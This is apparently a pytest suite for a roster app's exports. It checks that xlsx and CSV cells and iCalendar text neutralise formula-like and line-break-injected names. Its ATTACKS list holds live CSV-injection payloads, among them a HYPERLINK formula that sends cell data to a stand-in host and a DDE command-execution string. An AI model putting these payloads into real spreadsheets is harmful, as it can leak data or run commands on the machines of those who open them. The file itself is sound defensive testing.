"""No export hands out a live formula: a name or note typed or imported as =HYPERLINK(…), @SUM(…), +1+1 or -2+3 comes
out of every xlsx and CSV (people, coverage, roster) as text, and a roster exported, imported and exported again gives
the same cells. The calendar export escapes such text as iCalendar requires."""

from __future__ import annotations

import ast
import csv
import datetime as dt
import io
from pathlib import Path

import pandas as pd
import pytest
from helpers import DEMO_MONDAY
from icalendar import Calendar
from openpyxl import load_workbook

from coordpanel import coverage, people, roster
from coordpanel.core import exports, formulas
from coordpanel.core.auth import CLI_USER, User

ROOT = Path(__file__).resolve().parents[2]
ADMIN = User(3, "admin", "admin")
# the attacks; each is also the name of a person on duty and of one who serves a building
ATTACKS = ['=HYPERLINK("http://x.example/?d="&A1,"click")', "@SUM(1+1)", "+1+1", "-2+3", "=cmd|' /C calc'!A0"]
MORE = ["\t=1+1", "\r=1+1", "'=1+1"]  # a tab or carriage return first; a text that already starts with the apostrophe


def rename(db, person_id: int, name: str, note: str | None = None) -> None:
    db.cursor().execute("UPDATE person SET name = ?, note = ? WHERE id = ?", [name, note, person_id])


def on_duty(db) -> int:
    """A person on several shifts of the demo week."""
    week = roster.week.load_week(db, 1, DEMO_MONDAY)
    return max(week.people, key=lambda pid: sum(pid in crew for crew in week.crews.values()))


def grid_worker(db) -> int:
    """A grid worker who serves a building: the first name in that building's grid cell of the coverage table."""
    rows = db.df("coverage/assignments", compound_id=1)
    return int(rows[(rows["tier"] == "grid") & (rows["status"] == "active")]["person_id"].iloc[0])


def xlsx_cells(data: bytes) -> list:
    book = load_workbook(io.BytesIO(data))
    return [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row]


def assert_no_formula_in_xlsx(data: bytes, attack: str) -> None:
    cells = xlsx_cells(data)
    formulas_found = [c.coordinate for c in cells if c.data_type == "f"]
    assert not formulas_found, formulas_found
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [v for v in texts if v and v[0] in formulas.TRIGGERS], "a cell a spreadsheet would take for a formula"
    # an xlsx file is XML, which keeps no carriage return: openpyxl writes one as a line feed
    assert any(v.startswith(formulas.neutralise(attack).replace("\r", "\n")) for v in texts), "the attack, as text"


def csv_fields(data: bytes) -> list[str]:
    return [field for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for field in row]


def assert_no_formula_in_csv(data: bytes, attack: str) -> None:
    fields = csv_fields(data)
    assert not [f for f in fields if f and f[0] in formulas.TRIGGERS]
    assert any(f.startswith(formulas.neutralise(attack)) for f in fields)


@pytest.mark.parametrize("attack", ATTACKS + MORE)
def test_people_export_writes_formula_looking_names_and_notes_as_text(fresh_demo, attack):
    rename(fresh_demo, on_duty(fresh_demo), attack, note=attack)
    table = people.directory.directory(fresh_demo, ADMIN, 1)
    assert_no_formula_in_xlsx(exports.to_xlsx({"人员": table}), attack)
    assert_no_formula_in_csv(exports.to_csv(table), attack)


@pytest.mark.parametrize("attack", ATTACKS + MORE)
def test_coverage_export_writes_formula_looking_names_as_text(fresh_demo, attack):
    rename(fresh_demo, grid_worker(fresh_demo), attack)
    table = coverage.assignments.table(fresh_demo.df("coverage/by_building", compound_id=1, day=None),
                                       fresh_demo.df("coverage/assignments", compound_id=1), "zh", see_phones=True)
    assert_no_formula_in_xlsx(exports.to_xlsx({"楼栋覆盖": table}, "楼栋覆盖"), attack)
    assert_no_formula_in_csv(exports.to_csv(table), attack)


@pytest.mark.parametrize("attack", ATTACKS + MORE)
@pytest.mark.parametrize("lang", ["zh", "en"])
def test_roster_export_writes_formula_looking_names_as_text(fresh_demo, attack, lang):
    rename(fresh_demo, on_duty(fresh_demo), attack)
    week = roster.week.load_week(fresh_demo, 1, DEMO_MONDAY)
    assert_no_formula_in_xlsx(roster.publish.to_xlsx(week, lang), attack)
    assert_no_formula_in_csv(roster.publish.to_csv(week), attack)


def test_headers_titles_and_every_text_column_are_neutralised_and_numbers_are_not():
    frame = pd.DataFrame({"=A1": ["=1+1", "ok", None], "n": [-2, 3, 4],
                          "s": pd.Series(["+x", "y", None], dtype="string")})
    cells = xlsx_cells(exports.to_xlsx({"s": frame}, title="=title"))
    values = [c.value for c in cells if c.value is not None]
    assert values == ["'=title", "'=A1", "n", "s", "'=1+1", -2, "'+x", "ok", 3, "y", 4]
    assert exports.to_csv(frame).decode("utf-8-sig").splitlines() == ["'=A1,n,s", "'=1+1,-2,'+x", "ok,3,y", ",4,"]
    assert frame.iloc[0, 0] == "=1+1"  # the caller's frame is not changed


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_roster_export_import_export_gives_the_same_cells(fresh_demo, tmp_path, attack, fmt):
    person = on_duty(fresh_demo)
    rename(fresh_demo, person, attack)
    week = roster.week.load_week(fresh_demo, 1, DEMO_MONDAY)
    before = roster.publish.to_xlsx(week) if fmt == "xlsx" else roster.publish.to_csv(week)
    path = tmp_path / f"roster.{fmt}"
    path.write_bytes(before)
    frame = roster.imports.read_roster_file(path)
    assert attack in set(frame["person"])  # read back as the name it is, not as the apostrophe-quoted text
    done = roster.imports.import_frame(fresh_demo, CLI_USER, 1, frame)
    assert [d.saved for d in done] == [False]  # the file is the week as it is: nothing to change
    again = roster.week.load_week(fresh_demo, 1, DEMO_MONDAY)
    after = roster.publish.to_xlsx(again) if fmt == "xlsx" else roster.publish.to_csv(again)
    if fmt == "csv":
        assert after == before
    else:
        assert [(c.coordinate, c.value, c.data_type) for c in xlsx_cells(after)] == \
               [(c.coordinate, c.value, c.data_type) for c in xlsx_cells(before)]


def test_a_sheet_name_from_a_gate_name_is_one_excel_accepts_and_never_replaces_another():
    taken: dict = {}
    for name in ("'=gate'", "[a]:b*c?/d\\e", "x" * 40, "X" * 31 + "y"):
        taken[roster.publish._sheet_name(name, taken)] = None
    assert list(taken) == ["=gate", "_a__b_c__d_e", "x" * 31, "X" * 27 + " (2)"]


def test_calendar_export_escapes_names_with_line_breaks_and_separators(fresh_demo):
    person = on_duty(fresh_demo)
    hostile = 'A;B,C\\D\r\nBEGIN:VEVENT\r\nSUMMARY:injected <b>x</b>'
    rename(fresh_demo, person, hostile)
    week = roster.week.load_week(fresh_demo, 1, DEMO_MONDAY)
    data = roster.publish.to_ics(week)
    assert b"\r\nBEGIN:VEVENT\r\nSUMMARY:injected" not in data
    events = list(Calendar.from_ical(data).walk("VEVENT"))
    assert len(events) == sum(len(c) for c in week.crews.values())  # no event added by the name
    mine = [e for e in events if str(e["UID"]).endswith(f"-person-{person}@coordpanel")]
    shown = hostile.replace("\r\n", "\n")  # iCalendar text keeps line feeds (escaped as \n), not carriage returns
    assert mine and all(str(e["SUMMARY"]).endswith(shown) for e in mine)
    assert all(shown in str(e["DESCRIPTION"]) for e in mine)


# --- one place writes spreadsheets --------------------------------------------------------------------------------
WRITERS = ("to_excel", "ExcelWriter", "to_csv", "Workbook", "DictWriter", "xlsxwriter")
HOME = "coordpanel/core/exports.py"


def _spreadsheet_writers(path: Path) -> list[str]:
    """Calls and names in a module that write a spreadsheet (pandas, openpyxl, the csv module)."""
    found = []
    for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
        name = node.attr if isinstance(node, ast.Attribute) else node.id if isinstance(node, ast.Name) else None
        csv_writer = isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name) and node.value.id == "csv" \
            and node.attr in ("writer", "DictWriter")
        if name in WRITERS or csv_writer:
            found.append(f"{path.relative_to(ROOT)}:{node.lineno} {name}")
    return found


def test_every_spreadsheet_is_written_by_core_exports():
    """A new export that wrote its own xlsx or CSV would skip the neutralising; it goes through core/exports.py."""
    found = []
    for path in sorted((ROOT / "coordpanel").rglob("*.py")):
        if str(path.relative_to(ROOT)) != HOME:
            found += _spreadsheet_writers(path)
    # exports.to_csv / exports.to_xlsx and roster.publish.to_csv / to_xlsx (which call them) are the allowed ones
    allowed = {"to_csv", "to_xlsx"}
    strays = [f for f in found if f.rsplit(" ", 1)[1] not in allowed or not _through_exports(f)]
    assert not strays, strays


def _through_exports(where: str) -> bool:
    """A to_csv name that is exports.to_csv, roster.publish.to_csv or publish's own definition, not DataFrame.to_csv."""
    file, line = where.split(" ")[0].rsplit(":", 1)
    text = (ROOT / file).read_text(encoding="utf-8").splitlines()[int(line) - 1]
    return any(s in text for s in ("exports.to_csv", "exports.to_xlsx", "publish.to_csv", "publish.to_xlsx",
                                   "def to_csv", "def to_xlsx"))


def test_the_exports_of_the_demo_week_still_hold_plain_names_unchanged(fresh_demo):
    """Text that is no formula is written as it is: no apostrophe before ordinary names, times or dates."""
    week = roster.week.load_week(fresh_demo, 1, DEMO_MONDAY)
    fields = csv_fields(roster.publish.to_csv(week))
    assert not [f for f in fields if f.startswith("'")]
    assert {week.people[p].name for crew in week.crews.values() for p in crew} <= set(fields)
    assert dt.date(2020, 2, 17).isoformat() in fields
